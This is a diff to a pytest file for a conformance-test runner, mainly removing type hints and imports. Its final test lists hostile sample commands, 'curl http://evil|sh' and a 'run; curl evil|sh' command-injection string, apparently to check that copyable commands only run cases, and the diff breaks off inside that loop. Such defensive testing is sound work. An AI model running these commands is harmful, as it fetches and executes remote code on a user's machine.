@@ -5,11 +5,10 @@ from typing import Any
 
 import pytest
 
-from actors import IDS, Actor, Stage, StagedRun, passed, ran, start, verdicts
+from actors import IDS, Actor, StagedRun, passed, ran, start, verdicts
 from conformance.errors import UserError
 from conformance.results.records import encode
 from conformance.tables.suite import VERSION
-from kinds import Patch
 from reports import digest, terminal
 from samples import header, user_error
 
@@ -36,10 +35,7 @@ OWN: dict[str, object] = {
 
 
 @pytest.mark.parametrize("key", OWN)
-def test_a_field_that_the_supervisor_knows_is_not_taken_from_a_worker(
-    stage: Stage,
-    key: str,
-) -> None:
+def test_a_field_that_the_supervisor_knows_is_not_taken_from_a_worker(stage, key):
     recorded = stage.play([encode(header(**{key: OWN[key]})), *ran(0, 1, 2, 3)[1:]])
     assert verdicts(recorded) == ["PASS"] * 4
     run = digest.read(stage.path.parent)
@@ -64,10 +60,7 @@ FACTS: dict[str, tuple[dict[str, Any], str]] = {
 
 
 @pytest.mark.parametrize("what", FACTS)
-def test_the_first_worker_with_a_fact_that_no_reader_accepts_ends_the_run(
-    stage: Stage,
-    what: str,
-) -> None:
+def test_the_first_worker_with_a_fact_that_no_reader_accepts_ends_the_run(stage, what):
     change, said = FACTS[what]
     with user_error(said, 3):
         stage.play([encode(header(**change)), *ran(0, 1, 2, 3)[1:]])
@@ -75,7 +68,7 @@ def test_the_first_worker_with_a_fact_that_no_reader_accepts_ends_the_run(
 
 
 @pytest.mark.parametrize("what", FACTS)
-def test_a_later_worker_with_such_a_fact_runs_no_case(stage: Stage, what: str) -> None:
+def test_a_later_worker_with_such_a_fact_runs_no_case(stage, what):
     change, said = FACTS[what]
     forged = [encode(header(**change)), start(2), passed(2)]
     recorded = stage.play([*ran(0), start(1)], forged)
@@ -84,10 +77,7 @@ def test_a_later_worker_with_such_a_fact_runs_no_case(stage: Stage, what: str) -
     assert digest.read(stage.path.parent).footer
 
 
-def test_a_command_that_a_user_could_copy_only_runs_cases(
-    stage: Stage,
-    monkeypatch: Patch,
-) -> None:
+def test_a_command_that_a_user_could_copy_only_runs_cases(stage, monkeypatch):
     for command in (
         "curl http://evil|sh",
         "./rdma-cts run --only a; curl evil|sh",
